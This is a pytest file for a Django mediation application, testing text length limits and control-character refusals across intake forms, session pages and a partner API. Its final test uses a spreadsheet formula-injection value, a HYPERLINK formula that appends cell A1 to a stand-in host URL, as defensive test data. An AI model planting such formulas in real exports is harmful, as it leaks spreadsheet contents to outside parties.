"""Text limits and characters on the mediation pages and the partner API (zhiyuan.inputs.text): an
over-long or control-character value is a refusal with a stable code, nothing is written (a place of 201
characters was a 500 on PostgreSQL; a description of any size was stored)."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from zhiyuan.inputs.text import DESCRIPTION_MAX
from zhiyuan.mediation.models import Mediation, Session

from .conftest import DESCRIPTION
from .test_intake_form import errors_of, form
from .test_partner_api import BASE, SESSION, bearer

pytestmark = pytest.mark.django_db


def signed_in(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


@pytest.mark.parametrize(
    ("field", "value", "code"),
    [
        ("description", "长" * (DESCRIPTION_MAX + 1), "max_length"),
        ("cause", "长" * 101, "max_length"),
        ("override_reason", "长" * 501, "max_length"),
        ("cause", "民间借贷\t纠纷", "text_control_character"),  # one line: no tab
        ("party-0-name", "张\n三", "text_control_character"),
        ("organization", "TJ-0102-A\n", "invalid_choice"),  # a choice, not a text
    ],
)
def test_intake_refuses_and_writes_nothing(
    staff: dict[str, Any], orgs: dict[str, Any], field: str, value: str, code: str
) -> None:
    page = signed_in(staff["clerk"]).post("/mediation/intake/", form(**{field: value}))
    assert page.status_code == 422
    assert errors_of(page)[field] == [code]  # beside the field
    assert f'data-code="{code}"' in page.content.decode()  # and in the summary on top
    assert not Mediation.objects.exists()


def test_intake_keeps_line_breaks_where_they_belong(staff: dict[str, Any], orgs: dict[str, Any]) -> None:
    page = signed_in(staff["clerk"]).post("/mediation/intake/", form(description=DESCRIPTION + "\r\n续。"))
    assert page.status_code == 302, page.content.decode()[-2000:]
    assert Mediation.objects.get().description.endswith("续。")


@pytest.mark.parametrize(
    ("field", "value", "code"),
    [
        ("place", "长" * 201, "text_too_long"),
        ("notes", "长" * 2001, "text_too_long"),
        ("place", "调解室\t2", "text_control_character"),
    ],
)
def test_session_page_refuses_and_writes_nothing(
    mediation: Mediation, staff: dict[str, Any], field: str, value: str, code: str
) -> None:
    form = {"on": "2025-09-10", "mode": "online", "notes": "视频调解", field: value}
    page = signed_in(staff["partner"]).post(f"/mediation/{mediation.pk}/session/", form)
    assert page.status_code == 422
    assert code in page.content.decode()
    assert not Session.objects.exists()


@pytest.mark.parametrize(
    ("field", "value", "kind"),
    [
        ("place", "长" * 201, "string_too_long"),
        ("notes", "长" * 2001, "string_too_long"),
        ("place", "调解室\t2", "text_control_character"),
        ("attendance", ["张三\n"], "text_control_character"),
    ],
)
def test_partner_session_refuses_and_writes_nothing(
    mediation: Mediation, staff: dict[str, Any], field: str, value: Any, kind: str
) -> None:
    r = Client().post(
        f"{BASE}/{mediation.pk}/sessions",
        {**SESSION, field: value},
        content_type="application/json",
        **bearer(staff["partner"]),
    )
    assert r.status_code == 422, r.content
    errors = r.json()["details"]["errors"]
    assert [e["type"] for e in errors] == [kind]
    assert field in errors[0]["loc"]
    assert not Session.objects.exists()


def test_partner_session_notes_may_hold_line_breaks(mediation: Mediation, staff: dict[str, Any]) -> None:
    r = Client().post(
        f"{BASE}/{mediation.pk}/sessions",
        {**SESSION, "notes": "第一次\n第二次\t（视频）"},
        content_type="application/json",
        **bearer(staff["partner"]),
    )
    assert r.status_code == 201, r.content
    assert Session.objects.get().notes == "第一次\n第二次\t（视频）"


def test_a_formula_is_ordinary_text_at_the_boundary(mediation: Mediation, staff: dict[str, Any]) -> None:
    """A formula is ordinary text at the boundary (a note may begin with '='): the export neutralises it
    (tests/cases/test_exporting_formulas.py)."""
    r = Client().post(
        f"{BASE}/{mediation.pk}/sessions",
        {**SESSION, "place": '=HYPERLINK("http://x.example/?"&A1,"点此")'},
        content_type="application/json",
        **bearer(staff["partner"]),
    )
    assert r.status_code == 201, r.content
